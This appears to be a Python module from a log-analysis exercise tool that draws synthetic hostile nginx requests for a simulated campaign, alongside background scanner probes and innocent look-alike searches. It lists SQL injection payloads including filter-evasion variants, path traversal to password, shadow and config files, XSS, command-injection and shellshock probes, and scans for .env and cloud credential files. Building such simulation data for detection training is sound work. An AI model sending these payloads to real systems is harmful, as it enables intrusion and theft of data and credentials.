r"""Hostile requests: what an attack campaign sends, and what scanners send to every server on the Internet all day.

Targets stand as nginx logs them: percent-encoding as sent, quotes and control characters as \xNN.
"""

# ruff: noqa: PLR2004 - shares read best where they are drawn
from __future__ import annotations

from typing import TYPE_CHECKING, Final

from vigie.exercise.draws import choose

if TYPE_CHECKING:
    import numpy as np

# Works on pages and parameters that readers use; {n} differs from request to request. Some name the campaign itself.
INJECTIONS: Final = (
    "/actualites?id={n}%27%20UNION%20SELECT%201,2,concat(user(),0x3a,version()),{n}--%20-",
    "/actualites?id={n}%27%20UNION%20ALL%20SELECT%20NULL,NULL,table_name%20FROM%20information_schema.tables--%20-",
    "/actualites?id={n}+AND+{n}={n}--+x{n}",
    "/actualites?id=-{n}%27%20OR%20%271%27=%271",
    "/agenda?ville=1%27%20AND%20SLEEP(5)--%20{n}",
    "/agenda?ville=1%27;WAITFOR%20DELAY%20%270:0:5%27--{n}",
    "/agenda?ville=1%20AND%20(SELECT%20{n}%20FROM(SELECT%20COUNT(*),FLOOR(RAND(0)*2)x%20FROM%20X%20GROUP%20BY%20x)a)",
    "/recherche?q=x%27%20UNION%20SELECT%20password%20FROM%20users%20WHERE%20id={n}%23",
    "/recherche?q=x%27%20UNION%20SELECT%20courriel%20FROM%20campagne_simulee.membres%20LIMIT%20{n},1%23",
    "/recherche?q=1%27%20ORDER%20BY%20{n}--%20-",
    "/inscription?ref={n}%27)%20OR%20EXTRACTVALUE({n},CONCAT(0x5c,0x71))%20AND%20(%27a%27=%27a",
    # Written to get past filters.
    "/actualites?id={n}%27/**/uNiOn/**/aLl/**/sElEcT/**/1,2,{n}--%20-",
    "/agenda?ville=val-fictif%2527%2520OR%2520{n}%253D{n}%2523",
    "/recherche?q=x%27||(select%20pg_sleep({n}))||%27",
    "/inscription?ref=tract-1%27%20RLIKE%20SLEEP({n})%20AND%20%27x%27=%27x",
    "/actualites?id={n}%20procedure%20analyse(extractvalue({n},1),1)",
)
TRAVERSALS: Final = (
    "/telecharger?fichier=../../../../../etc/passwd&v={n}",
    "/telecharger?fichier=..%2f..%2f..%2f..%2fetc%2fpasswd&v={n}",
    "/telecharger?fichier=....//....//....//etc/shadow&v={n}",
    "/telecharger?fichier=%2e%2e/%2e%2e/%2e%2e/var/www/campagne-simulee/config.php&v={n}",
    "/static/..%c0%af..%c0%af..%c0%afetc/passwd?v={n}",
    "/telecharger?fichier=..%252f..%252f..%252fproc/self/environ&v={n}",
    "/telecharger?fichier=..%5c..%5c..%5cwindows%5cwin.ini&v={n}",
    "/telecharger?fichier=php://filter/convert.base64-encode/resource=../config.php&v={n}",
)
STATUSES: Final = (403, 404, 500, 200, 400)
_ON_PAGES: Final = (0.25, 0.0, 0.25, 0.45, 0.05)
_ON_FILES: Final = (0.35, 0.4, 0.05, 0.1, 0.1)
# What the scanner puts in the place of a parameter's value: most of it says nothing by itself.
_VALUES: Final = (
    "%27", "%22", "{n}", "-1", "%00", "{n}%27%20AND%20%271%27=%271", "{n}%20AND%20{n}={n}", "%27%20OR%20SLEEP(3)--%20-",
    "%3Cscript%3Ealert({n})%3C/script%3E", "%22%3E%3Cimg%20src=x%20onerror=alert({n})%3E", "sonde{n}",
    "..%2f..%2f..%2fetc%2fpasswd", "%7B%7B{n}*{n}%7D%7D", "true", "[]", "{n}.5e3", "%7C%7Cping%20-c%201%20127.0.0.1", "http://127.0.0.1:{n}/",
)  # fmt: skip
_FOLDERS: Final = (
    "", "/admin", "/old", "/test", "/dev", "/sauvegarde", "/prive", "/intranet", "/api/v1", "/site", "/cache", "/docs",
)  # fmt: skip
_FILES: Final = (
    "index", "config", "database", "identification", "upload", "users", "export", "console", "debug", "install",
    "phpinfo", "setup", "dump", "backup", "secret", "membres",
)  # fmt: skip
_ENDINGS: Final = (".php", ".bak", ".old", ".zip", ".sql", "/", ".txt", ".inc", ".json", ".xml")
SCANS: Final = (
    "/.env", "/.git/config", "/wp-login.php", "/wp-admin/setup-config.php", "/xmlrpc.php", "/phpmyadmin/index.php",
    "/pma/index.php", "/phpMyAdmin-{n}/", "/admin/config.php", "/administrator/", "/manager/html", "/HNAP1/",
    "/.svn/entries", "/backup.sql", "/backup-{n}.zip", "/.aws/credentials", "/server-status", "/cgi-bin/test-cgi",
    "/jmx-console/", "/setup.cgi", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/index.php?page=../../../../etc/passwd", "/index.php?id={n}%27%20OR%201=1--",
)  # fmt: skip
# The long tail: what one list asks for and no other.
_TAIL: Final = (
    "/wp-content/plugins/{w}-{n}/readme.txt", "/cgi-bin/{w}{n}.cgi", "/{w}/{n}.php", "/{w}-{n}.zip", "/api/{w}/{n}",
    "/{w}{n}.asp", "/index.php?option=com_{w}&id={n}", "/{w}/admin{n}/login.php", "/.{w}/config{n}.json",
)  # fmt: skip
_TAIL_WORDS: Final = (
    "gallery", "forum", "shop", "mailer", "slider", "calendar", "webmail", "router", "camera", "print", "nas", "panel",
    "portal", "wiki", "blog", "stats", "hub", "node", "sync", "vault",
)  # fmt: skip
_TAIL_SHARE: Final = 0.12
TOOLS: Final = (
    "sqlmap/1.1.3#stable (http://sqlmap.org)",
    "Mozilla/5.0 (Windows NT 6.1; WOW64; rv:40.0) Gecko/20100101 Firefox/40.1",
    "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 5.1; Trident/4.0)",
    "python-requests/2.13.0",
)
SCAN_TOOLS: Final = (
    "Mozilla/5.0 zgrab/0.x",
    "masscan/1.0 (https://github.com/robertdavidgraham/masscan)",
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    "curl/7.47.0",
    "python-requests/2.11.1",
    "Mozilla/5.0 (X11; Linux x86_64; rv:45.0) Gecko/20100101 Firefox/45.0",
    "-",
)
# For the display: markup, a formula, control and bidi characters (as nginx escapes them), a shell-shock probe.
HOSTILE_AGENTS: Final = (
    "<script>alert('exercice')</script>",
    "=HYPERLINK(\\x22http://clic.example/\\x22;\\x22ouvrir\\x22)",
    "\\x1B[31mROUGE\\x1B[0m\\x1B]0;titre\\x07",
    "Mozilla/5.0 \\xE2\\x80\\xAEelpmaxe.cilc",
    "() { :;}; /bin/echo exercice",
)
# Innocent searches in which the words of SQL and of shells occur.
INNOCENT: Final = (
    "/recherche?q=union+europ%C3%A9enne+s%C3%A9lection+des+projets",
    "/recherche?q=select+committee+%C3%A0+Londres",
    "/recherche?q=l%27union+des+maires+et+l%27ordre+du+jour",
    "/recherche?q=drop+in+%C3%A0+la+table+ronde",
    "/recherche?q=d%27o%C3%B9+vient+le+programme+%3F+1+ou+2+tours",
    "/recherche?q=where+is+the+meeting+from+the+station",
    "/recherche?q=script+du+d%C3%A9bat+%26+alerte+m%C3%A9t%C3%A9o",
)


def attack(draw: np.random.Generator) -> tuple[str, tuple[float, ...]]:
    """Draw one thing that the planted campaign tries: its target, still with {n}, and the shares of `STATUSES`."""
    if draw.random() < 0.7:
        return choose(draw, INJECTIONS), _ON_PAGES
    return choose(draw, TRAVERSALS), _ON_FILES


def scan(draw: np.random.Generator) -> tuple[str, int]:
    """Draw (target, status) of one background probe: many sources ask for most of them, nobody else for the rest."""
    status = (404, 403, 400, 301)[int(draw.choice(4, p=(0.82, 0.1, 0.03, 0.05)))]
    if draw.random() < _TAIL_SHARE:
        return rare_probe(draw), status
    return choose(draw, SCANS).format(n=int(draw.integers(2, 99))), status


def rare_probe(draw: np.random.Generator) -> str:
    """Draw a background probe that hardly any other source asks for."""
    return choose(draw, _TAIL).format(w=choose(draw, _TAIL_WORDS), n=int(draw.integers(2, 9_999)))


def scan_value(draw: np.random.Generator) -> str:
    """Draw what the planted scanner puts in the place of a parameter's value."""
    return choose(draw, _VALUES).format(n=int(draw.integers(100, 9_999)))


def guessed_path(draw: np.random.Generator) -> str:
    """Draw a path that the planted scanner guesses: a folder, a name, an ending."""
    return f"{choose(draw, _FOLDERS)}/{choose(draw, _FILES)}{choose(draw, _ENDINGS)}"
